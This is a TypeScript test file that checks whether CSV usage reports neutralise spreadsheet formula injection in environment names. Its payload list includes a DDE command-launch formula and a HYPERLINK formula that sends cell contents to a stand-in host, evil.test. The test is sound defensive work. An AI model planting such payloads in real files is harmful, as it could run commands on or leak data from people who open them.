import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { ENVIRONMENTS, SUBSCRIPTIONS } from '@/demo';
import { environments } from '../../platform/database/schema';
import { startTestPlatform } from '../contract/support/startTestPlatform';

const platform = startTestPlatform();
const days = { startDate: '2026-01-01', endDate: '2026-01-31' };

/** Names that a spreadsheet would run as formulas. */
const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.test?x="&A1,"click")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd|A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '=1+1,"quoted"\n=2+2',
];

/** Returns the cells of a CSV column, parsed by RFC 4180. */
function column(csv: string, index: number): string[] {
  const cells = [...csv.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n)/g)];
  const rows: string[][] = [[]];
  for (const [, quoted, bare = '', end] of cells) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare);
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(1, -1).map((row) => row[index] ?? '');
}

describe('names in report files', () => {
  it.each(FORMULAS)('%j is text to a spreadsheet', async (name) => {
    await platform.db
      .update(environments)
      .set({ name })
      .where(eq(environments.id, ENVIRONMENTS.auroraProduction));
    const files = [
      await platform.ok('subscription.admin', 'getTotalSubscriptionUsages', {
        query: { subscriptionId: SUBSCRIPTIONS.aurora, ...days },
      }),
      await platform.ok('subscription.admin', 'getTotalEnvironmentUsages', {
        query: { environmentId: ENVIRONMENTS.auroraProduction, ...days },
      }),
    ];
    for (const file of files) {
      const names = column(String(file), 1);
      expect(names).toContain(`'${name}`);
      for (const cell of names) expect(cell).not.toMatch(/^(?:\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n])/);
    }
  });
});
